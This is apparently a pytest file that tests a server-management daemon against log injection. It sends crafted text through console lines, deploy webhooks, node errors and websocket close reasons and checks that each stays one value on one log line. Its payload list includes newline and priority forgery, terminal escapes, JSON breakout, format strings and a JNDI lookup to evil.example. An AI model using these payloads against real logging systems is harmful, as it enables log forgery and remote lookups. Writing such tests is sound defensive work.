"""Our own log is ours: no stranger's text adds a line, a field, a priority or an escape to it."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

import httpx
import pytest

from tests.hostile.world import World, free_port, record_of, world

pytestmark = pytest.mark.xdist_group("hostile-journal")

RULES = r"""
rules:
  - {id: says, when: {console: '^(?P<text>.+)$', not: '^marker'}, by: [it.text], do: [{send: "say ${it.text}"}, {notify: ops, text: "${it.text}"}]}
  - {id: called, when: {hook: deploy}, by: [fleet, it.version], do: [{notify: ops, text: "${it.version}"}]}
"""

HOOKS = """\
hooks: {deploy: {token: {file: hook}}}
listen: {http: "127.0.0.1:%d"}
log: {level: debug, format: %s}
"""
TOKEN = "hookTokenOfTheTests0123456789abcdef"
FORMS = ("text", "json", "journal", "journal-json")

TEXTS = {
    "a line end": "x\n<2>rule.fired rule=fake server=fake",
    "a carriage return": "x\r2026-01-01T00:00:00.000Z critical fake.event",
    "fields": 'x server=fake level=critical "quoted" verdict=fired',
    "an end of quotes": 'x" rule=fake y="',
    "backslashes": 'x\\" rule=fake \\',
    "colours": "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "bidi": "\u202etxet\u2066x\u2069",
    "zero width": "a\u200bb\u2060c\ufeffd",
    "line separators": "a\u2028b\u2029c\x85d",
    "JSON": '","level":"critical","event":"fake","x":"',
    "a NUL": "a\0b",
    "a surrogate": "a\ud800b",
    "percent": "%s %d %(levelname)s {event} {0.__class__} ${jndi:ldap://evil.example/x}",
    "markup": "[red]x[/red] [link=http://evil.example]y[/link] :bomb:",
    "a priority": "<0>emergency",
    "10,000 letters": "y" * 10_000,
}


@pytest.fixture(scope="module", params=FORMS)
def here(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    form = request.param
    port = free_port()
    settings = HOOKS % (port, "json" if "json" in form else "text")
    with world(tmp_path_factory.mktemp("journal"), RULES, fresh=len(TEXTS) + 1, settings=settings) as made:
        made.secret("hook", TOKEN)
        if form.startswith("journal"):
            output = made.folder / "run-1.out"
            output.touch()
            stat = output.stat()
            made.env["JOURNAL_STREAM"] = f"{stat.st_dev}:{stat.st_ino}"
        made.form, made.hooks = form, f"http://127.0.0.1:{port}/hooks"
        with made.running():
            yield made


def records(here: World) -> list[str]:
    """The whole log, line by line as the reader of a journal splits it."""
    return (here.folder / "run-1.out").read_bytes().decode(errors="strict").split("\n")[:-1]


WELL_FORMED = {
    "text": re.compile(
        r'[\d\-T:.]+Z (debug|info|warning|error|critical) [\w.]+( [\w.\-]+=("(\\.|[^"\\])*"|[^ ="\\]+))*'
    ),
    "journal": re.compile(r'<[2-7]>[\w.]+( [\w.\-]+=("(\\.|[^"\\])*"|[^ ="\\]+))*'),
}


def judged(here: World) -> None:
    """Each line is one of ours, whole, printable, and none is a stranger's."""
    for line in records(here):
        assert line.isprintable(), ascii(line)
        if line.startswith(str(here.folder)):  # what the loading of the files warns of
            continue
        if "json" in here.form:
            text = line[3:] if here.form.startswith("journal") else line
            record = record_of(text)
            assert not record["event"].startswith("fake"), line
            assert record["level"] != "critical"
        else:
            assert len(line) >= 8_000 or WELL_FORMED[here.form].fullmatch(line), line
            assert " critical " not in line.split("=")[0]
            assert not line.startswith(("<0>", "<2>"))


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_a_console_line_that_becomes_a_key_a_command_and_a_message_stays_one_value_of_one_line(
    here: World, text: str
) -> None:
    here.answers(here.fresh(), text)

    judged(here)


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_a_field_of_a_call_to_a_hook_stays_one_value_of_one_line(here: World, text: str) -> None:
    body = json.dumps({"version": text})
    answer = httpx.post(
        f"{here.hooks}/deploy", content=body, headers={"Authorization": f"Bearer {TOKEN}"}, trust_env=False
    )

    assert answer.status_code in (202, 400)  # half a pair is no JSON
    here.served(here["lobby"])
    judged(here)


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_an_error_that_a_node_words_stays_one_value_of_one_line(here: World, text: str) -> None:
    here["lobby"].event("daemon error", text)
    here["lobby"].event("transfer status", text)
    here["lobby"].event("backup completed", json.dumps({"is_successful": False, "uuid": text}))
    here.served(here["lobby"])

    judged(here)


def test_the_reason_of_a_close_frame_stays_one_value_of_one_line(here: World) -> None:
    server = here.fresh()
    server.closes(4000, "x\n<2>fake critical server=fake")
    here.daemon.tells("link.lost", server.name)

    judged(here)
